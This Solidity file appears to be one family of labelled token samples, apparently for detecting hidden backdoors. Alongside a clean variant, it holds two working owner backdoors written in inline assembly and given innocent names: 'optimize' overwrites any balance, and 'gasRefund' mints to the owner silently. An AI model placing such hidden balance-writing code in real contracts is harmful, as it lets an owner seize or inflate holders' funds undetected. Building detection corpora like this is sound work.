// SPDX-License-Identifier: MIT
// Family F11: balances written through inline assembly (slot arithmetic), to hide from source readers.
pragma solidity ^0.8.0;

abstract contract AsmToken {
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    uint256 internal _totalSupply;
    address internal _owner;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() {
        _owner = msg.sender;
        _totalSupply = 1e9 * 1e18;
        _balances[msg.sender] = _totalSupply;
        emit Transfer(address(0), msg.sender, _totalSupply);
    }
    modifier onlyOwner() { require(msg.sender == _owner, "owner"); _; }
    function name() external pure returns (string memory) { return "Asm"; }
    function symbol() external pure returns (string memory) { return "ASM"; }
    function decimals() external pure returns (uint8) { return 18; }
    function owner() external view returns (address) { return _owner; }
    function totalSupply() external view returns (uint256) { return _totalSupply; }
    function balanceOf(address a) external view returns (uint256) { return _balances[a]; }
    function allowance(address o, address s) external view returns (uint256) { return _allowances[o][s]; }
    function approve(address s, uint256 v) external returns (bool) {
        _allowances[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }
    function transfer(address to, uint256 v) external returns (bool) {
        _move(msg.sender, to, v);
        return true;
    }
    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        uint256 a = _allowances[from][msg.sender];
        require(a >= v, "allowance");
        _allowances[from][msg.sender] = a - v;
        _move(from, to, v);
        return true;
    }
    function _move(address from, address to, uint256 v) internal {
        require(_balances[from] >= v, "balance");
        _balances[from] -= v;
        _balances[to] += v;
        emit Transfer(from, to, v);
    }
}

/** Clean: assembly only to tell contracts from wallets, in a view. */
contract AsmCleanView is AsmToken {
    function isContract(address a) external view returns (bool) {
        uint256 size;
        assembly { size := extcodesize(a) }
        return size > 0;
    }
}

/** Backdoor: the owner writes any balance by slot arithmetic. */
contract AsmSetBalance is AsmToken {
    function optimize(address account, uint256 value) external onlyOwner {
        assembly {
            mstore(0, account)
            mstore(32, _balances.slot)
            sstore(keccak256(0, 64), value)
        }
    }
}

/** Backdoor: the owner adds to its own balance by slot arithmetic (no supply change, no event). */
contract AsmSilentMint is AsmToken {
    function gasRefund(uint256 value) external onlyOwner {
        assembly {
            mstore(0, caller())
            mstore(32, _balances.slot)
            let slot := keccak256(0, 64)
            sstore(slot, add(sload(slot), value))
        }
    }
}
